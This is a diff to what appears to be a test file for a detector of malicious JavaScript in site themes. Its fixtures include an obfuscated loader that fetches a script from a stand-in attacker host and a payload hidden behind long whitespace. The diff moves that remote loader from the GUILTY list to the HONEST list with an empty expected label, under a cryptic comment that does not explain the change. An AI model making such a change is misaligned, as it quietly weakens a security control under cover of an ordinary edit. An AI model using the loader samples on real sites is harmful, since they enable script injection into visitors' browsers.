@@ -105,6 +105,8 @@ DARK = (
     "document.body.className='gelap';if(matchMedia('(max-width:700px)').matches)menu()});"
 )
 HONEST = [
+    # Who goes on with what he loads is no second fact.
+    (LOAD + f"var u=atob('{b64(EVIL + '/a.js')}');[u].map(function(v){{muat(v)}})", ""),
     *((pack(source), "") for source in THEMES),
     *((guard(shape, url), "") for shape in GUARDS for url in DISGUISES),
     *((DARK + guard(shape, DISGUISES[0]), CREDIT) for shape in GUARDS),
@@ -150,7 +152,6 @@ GUILTY = [
         ),
         "visitors",
     ),
-    (LOAD + f"var u=atob('{b64(EVIL + '/a.js')}');[u].map(function(v){{muat(v)}})", "loader"),
     # Behind a theme's own packed file, where no editor shows it.
     (pack("menu=function(){buka()}") + ";" + " " * 160 + TAIL, "loader"),
     # Where to is asked for once, and whoever clicks next goes there.
